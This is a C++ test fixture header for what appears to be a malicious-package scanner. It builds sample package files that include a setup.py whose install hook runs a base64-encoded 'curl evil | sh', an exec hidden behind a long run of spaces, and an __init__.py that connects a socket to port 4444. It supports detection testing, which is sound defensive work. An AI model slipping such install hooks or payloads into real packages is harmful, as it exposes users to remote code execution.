#pragma once
// A hand-made scan for the export tests: one batch package with a malicious-looking setup.py (cmdclass install
// override, os.system of a base64 payload, an exec pushed off screen by a long run of spaces) and its __init__.py,
// plus one known-malicious package. Every number is chosen by hand.
#include "pipeline/scan.h"

#include <string>

namespace fixture {

inline const std::string kSetupPy = "from setuptools import setup\n"                                           // 1
                                    "from setuptools.command.install import install\n"                         // 2
                                    "import os, base64\n"                                                      // 3
                                    "class Evil(install):\n"                                                   // 4
                                    "    def run(self):\n"                                                     // 5
                                    "        os.system(base64.b64decode('Y3VybCBldmlsIHwgc2g=').decode())\n"   // 6
                                    "setup(name='Evil_Pkg.Name', version='1.0', cmdclass={'install': Evil})\n" // 7
                                    "x = 1" +
                                    std::string(40, ' ') + "; exec('<b>&</b>')\n"; // 8

inline const std::string kInitPy = "import socket\nsocket.socket().connect(('10.0.0.1', 4444))\n";

inline mph::CallToken token(const std::string &text, const std::string &name, const std::string &needle) {
    const auto at = static_cast<std::uint32_t>(text.find(needle));
    return {name, at, static_cast<std::uint32_t>(at + needle.size())};
}

inline mph::ScanResult makeScan() {
    mph::ScanResult scan;
    scan.batchNames = {"/data/batch-1"};
    mph::Package batch;
    batch.source = "/data/batch-1/Evil_Pkg.Name-1.0.tar.gz";
    batch.name = "Evil_Pkg.Name";
    batch.version = "1.0";
    batch.sha256 = std::string(64, 'a');
    batch.scripts = {{"Evil_Pkg.Name-1.0/setup.py", mph::Scope::Install, kSetupPy, std::string(64, 'b')},
                     {"Evil_Pkg.Name-1.0/evil_pkg/__init__.py", mph::Scope::Import, kInitPy, std::string(64, 'c')}};
    mph::Package known;
    known.source = "/data/known/known-bad-0.1.zip";
    known.name = "known-bad";
    known.version = "0.1";
    known.sha256 = std::string(64, 'd');
    known.scripts = {{"known-bad-0.1/setup.py", mph::Scope::Install, "", std::string(64, 'e')}};
    scan.packages = {batch, known};
    scan.packageRoles = {mph::Role::Batch, mph::Role::Known};
    scan.packageBatch = {0, -1};
    scan.scripts = {{0, 0, mph::Scope::Install, 0}, {0, 1, mph::Scope::Import, 1}, {1, 0, mph::Scope::Install, 2}};

    mph::CallSequence setup;
    setup.calls = {token(kSetupPy, "setup", "setup(name"), token(kSetupPy, "base64.b64decode", "base64.b64decode"),
                   token(kSetupPy, "?.decode", ".decode()"), token(kSetupPy, "os.system", "os.system"),
                   token(kSetupPy, "exec", "exec(")};
    setup.calls[0].end = setup.calls[0].begin + 5;
    mph::CallSequence init;
    init.calls = {token(kInitPy, "socket.socket", "socket.socket"), token(kInitPy, "?.connect", ".connect")};
    mph::CallSequence knownSequence;
    knownSequence.calls = {{"os.system", 0, 0}, {"base64.b64decode", 0, 0}};
    scan.sequences = {setup, init, knownSequence};
    scan.mapX = {1.25f, -3.5f, 1.5f};
    scan.mapY = {-0.75f, 2.0f, -0.5f};

    mph::RankedScript first;
    first.entry = 0;
    first.batch = 0;
    first.rank = 1;
    first.cluster = -1;
    first.outlierScore = 0.875;
    first.score = 0.6875;
    first.dB = 0.9;
    first.dM = 0.25;
    first.beta = 0.0036;
    first.wB = 0.4964;
    first.nearestKnown = {2};
    first.rareSharedCalls = {"os.system", "base64.b64decode"};
    mph::RankedScript second;
    second.entry = 1;
    second.batch = 0;
    second.rank = 1;
    second.cluster = 3;
    second.score = 0.25;
    second.dB = 0.5;
    second.dM = 2;
    second.beta = 0.0538;
    second.wB = 0.4462;
    scan.ranking = {first, second};
    return scan;
}

// The same scan, where setup.py also runs more than itself (design 2.8): its package's evil_pkg/_hooks.py (posting
// to the network at its line 3) and, through the exec at its line 8, a payload decoded from a literal (layer 1, whose
// line 2 runs os.system).
inline const std::string kHooksPy = "import requests\n\nrequests.post('https://x.invalid', data=b'')\n";
inline const std::string kLayerPy = "import os\nos.system('id')\n";

inline mph::ScanResult makeScanWithReach() {
    mph::ScanResult scan = makeScan();
    mph::Package &batch = scan.packages[0];
    batch.root = "Evil_Pkg.Name-1.0/";
    batch.modules = {{"Evil_Pkg.Name-1.0/evil_pkg/_hooks.py", kHooksPy}};
    const mph::CallToken exec = scan.sequences[0].calls[4];
    const std::vector<mph::CodeSource> sources = {
        {"Evil_Pkg.Name-1.0/setup.py", 0, -1, 0, 0, "", 5},
        {"Evil_Pkg.Name-1.0/evil_pkg/_hooks.py", 0, -1, 0, 0, "", 1},
        {"Evil_Pkg.Name-1.0/setup.py", 1, 0, exec.begin, exec.end, kLayerPy, 1},
    };
    mph::CallToken post = token(kHooksPy, "requests.post", "requests.post");
    post.source = 1;
    mph::CallToken system = token(kLayerPy, "os.system", "os.system");
    system.source = 2;
    scan.sequences[0].calls.push_back(post);
    scan.sequences[0].calls.push_back(system);
    scan.sequences[0].sources = sources;
    scan.scripts[0].sources = sources;
    return scan;
}

} // namespace fixture
